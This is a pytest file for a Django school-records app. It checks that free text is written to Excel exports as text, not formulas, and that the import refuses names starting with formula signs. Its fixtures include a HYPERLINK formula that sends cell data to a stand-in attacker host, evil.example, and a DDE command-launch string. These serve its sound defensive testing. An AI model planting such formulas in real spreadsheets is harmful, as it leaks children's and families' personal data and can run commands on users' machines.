"""Text typed by people goes into every Excel export as text, never as a live formula; the import refuses
names that start with a formula sign and keeps other free text as plain text."""

from datetime import date
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from children import exports
from children.importing import read_import
from children.models import Child
from mentoring import exports as log_exports
from tests.excel.archives import make_archive
from tests.factories import HomeVisitFactory, PairingFactory, TalkFactory

pytestmark = pytest.mark.django_db
TODAY = date(2026, 11, 2)
PAYLOAD = '=HYPERLINK("http://evil.example/?d="&B4&G4,"详情")'
NAME = "=B2&C2"  # a name is at most 30 characters


def cells(content: bytes):
    workbook = load_workbook(BytesIO(content))
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            yield from row


def assert_written_as_text(content: bytes, text: str = PAYLOAD) -> None:
    all_cells = list(cells(content))
    found = [c for c in all_cells if c.value == text]
    assert found, f"{text!r} is not in the file"
    for cell in found:
        assert cell.data_type == "s", f"{cell.coordinate} is {cell.data_type!r}"
    formulas = [
        c.coordinate for c in all_cells if isinstance(c.value, str) and c.value.startswith("=") and c.data_type == "f"
    ]
    assert not formulas, f"formulas in the export: {formulas}"


@pytest.fixture
def planted(world):
    """An archive and logs whose free text is a formula (saved before the import and the form refused it)."""
    child = make_archive(world, NAME)
    child.hukou_address = PAYLOAD
    child.save(update_fields=["hukou_address"])
    PairingFactory(child=child, mentor=world.mentor)
    TalkFactory(child=child, author=world.mentor, date=date(2026, 10, 9), text=PAYLOAD)
    HomeVisitFactory(child=child, author=world.mentor, date=date(2026, 10, 20), text=PAYLOAD, safety_hazards=PAYLOAD)
    return child


def test_the_roster_writes_a_formula_typed_as_a_name_or_address_as_text(world, planted):
    result = exports.export_roster(school=world.school, acting_user=world.coordinator, today=TODAY)
    assert_written_as_text(result.content)
    assert_written_as_text(result.content, NAME)


def test_the_register_writes_a_formula_typed_as_a_name_as_text(world, planted):
    result = exports.export_register(school=world.school, acting_user=world.coordinator, today=TODAY)
    assert_written_as_text(result.content)
    assert_written_as_text(result.content, NAME)


def test_the_summary_writes_a_formula_typed_as_a_school_name_as_text(world, planted):
    world.school.name = PAYLOAD
    world.school.save(update_fields=["name"])
    result = exports.export_summary(schools=[world.school], acting_user=world.bureau, today=TODAY)
    assert_written_as_text(result.content)


def test_the_talk_log_export_writes_the_talk_text_as_text(world, planted):
    result = log_exports.export_logs(school=world.school, acting_user=world.principal, kind="talks", today=TODAY)
    assert_written_as_text(result.content)
    assert_written_as_text(result.content, NAME)  # the child's name beside it


def test_the_home_visit_export_writes_the_visit_text_as_text(world, planted):
    result = log_exports.export_logs(school=world.school, acting_user=world.principal, kind="visits", today=TODAY)
    assert_written_as_text(result.content)


def test_the_county_sheet_writes_a_formula_typed_as_a_school_name_as_text(client, world, planted):
    world.school.name = PAYLOAD
    world.school.save(update_fields=["name"])
    client.force_login(world.bureau)
    response = client.post(reverse("reports:county_xlsx"))
    assert response.status_code == 200
    assert_written_as_text(response.content)


@pytest.mark.parametrize("text", ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "#N/A"])
def test_text_starting_with_any_formula_sign_stays_text_and_is_quoted(world, text):
    child = make_archive(world, "张小明")
    TalkFactory(child=child, author=world.mentor, date=date(2026, 10, 9), text=text)
    result = log_exports.export_logs(school=world.school, acting_user=world.principal, kind="talks", today=TODAY)
    found = [c for c in cells(result.content) if c.value == text.replace("\r", "\n")]  # XML reads CR as LF
    assert found and all(c.data_type == "s" for c in found)
    if text[0] != "#":
        assert all(c.quotePrefix for c in found)  # Excel keeps it text even after someone edits the cell


def test_numbers_and_plain_text_keep_their_types(world, planted):
    result = log_exports.export_logs(school=world.school, acting_user=world.principal, kind="talks", today=TODAY)
    rows = list(load_workbook(BytesIO(result.content)).active.iter_rows(min_row=3))
    assert rows[0][2].value == str(planted.school_class) and rows[0][2].data_type == "s"
    summary = exports.export_summary(schools=[world.school], acting_user=world.bureau, today=TODAY)
    row = list(load_workbook(BytesIO(summary.content)).active.iter_rows(min_row=4, max_row=4))[0]
    assert row[4].value == 1 and row[4].data_type == "n"


def _upload(rows: list[list]) -> BytesIO:
    wb = Workbook()
    ws = wb.active
    for values in rows:
        ws.append(values)
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and cell.value.startswith("="):
                cell.data_type = "s"  # typed as text in the school's sheet, as WPS keeps '=B2&C2
    out = BytesIO()
    wb.save(out)
    out.seek(0)
    return out


HEADER = [
    "姓名",
    "性别",
    "出生日期",
    "班级",
    "户籍地址",
    "父亲姓名",
    "父亲工作单位",
    "监护人姓名",
    "与儿童关系",
    "父亲务工地",
    "母亲务工地",
]


def test_the_import_refuses_a_child_parent_or_guardian_name_that_starts_with_a_formula_sign(world):
    sheet = _upload(
        [
            HEADER,
            ["=B2&C2", "男", "2017-03-02", "三(2)班", "", "", "", "", "", "", ""],
            ["张小明", "男", "2017-03-02", "三(2)班", "", "+张建国", "", "", "", "", ""],
            ["李小红", "女", "2016-05-08", "三(2)班", "", "", "", "@王外婆", "外祖母", "", ""],
            ["王小刚", "男", "2015-09-01", "三(2)班", "", "", "", "", "", "", ""],
        ]
    )
    preview = read_import(school=world.school, source=sheet, filename="x.xlsx", today=TODAY)
    errors = {(e.row, e.column): e.message for e in preview.errors}
    assert errors == {
        (2, "姓名"): "姓名不能以 = + - @ 开头，请核对",
        (3, "父亲姓名"): "姓名不能以 = + - @ 开头，请核对",
        (4, "监护人姓名"): "姓名不能以 = + - @ 开头，请核对",
    }
    assert not preview.can_commit


def test_other_free_text_is_imported_as_plain_text_and_exported_as_text(world):
    from children.importing import commit_import

    sheet = _upload(
        [
            HEADER,
            ["张小明", "男", "2017-03-02", "三(2)班", PAYLOAD, "张建国", PAYLOAD, "", "", "广东东莞", "浙江省义乌市"],
        ]
    )
    commit_import(school=world.school, source=sheet, filename="x.xlsx", acting_user=world.coordinator)
    child = Child.objects.get(name="张小明")
    assert child.hukou_address == PAYLOAD  # stored as typed, a string
    assert child.parents.get(role="father").employer == PAYLOAD
    result = exports.export_roster(school=world.school, acting_user=world.coordinator)
    assert_written_as_text(result.content)


@pytest.mark.parametrize("name", ["=B2&C2", "+张建国", "-王", "@李", "\t=1+1"])
def test_the_archive_form_refuses_a_name_that_starts_with_a_formula_sign(world, name):
    from children.forms import ChildForm, GrandparentForm, GuardianForm, ParentForm
    from children.models import SchoolClass

    child = ChildForm(data={"name": name}, classes=SchoolClass.objects.filter(school=world.school))
    forms = [
        child,
        ParentForm(data={"name": name}),
        GrandparentForm(data={"name": name}),
        GuardianForm(data={"name": name}),
    ]
    for form in forms:
        assert form.errors.get("name") == ["姓名不能以 = + - @ 开头，请核对。"], type(form).__name__


def test_the_archive_form_still_takes_an_ordinary_name(world):
    from children.forms import ChildForm
    from children.models import SchoolClass

    form = ChildForm(data={"name": "张小明"}, classes=SchoolClass.objects.filter(school=world.school))
    assert "name" not in form.errors
